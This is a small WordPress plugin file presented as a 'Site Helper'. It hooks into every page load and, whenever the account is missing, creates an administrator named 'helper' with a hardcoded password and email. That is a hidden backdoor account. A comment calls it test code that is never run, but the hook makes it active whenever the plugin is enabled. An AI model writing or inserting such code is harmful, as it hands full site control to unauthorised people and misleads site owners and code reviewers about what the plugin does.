<?php
/*
Plugin Name: Site Helper
*/
// an administrator made on every page load by a helper with a login written here (tests, never run)
function sh_make_user($login, $pass, $mail) {
    return wp_insert_user(array('user_login' => $login, 'user_pass' => $pass, 'user_email' => $mail));
}
function sh_ensure() {
    if (get_user_by('email', 'helper@example.test')) {
        return;
    }
    $id = sh_make_user('helper', 'helper-pass', 'helper@example.test');
    $u = new WP_User($id);
    $u->set_role('administrator');
}
add_action('init', 'sh_ensure');
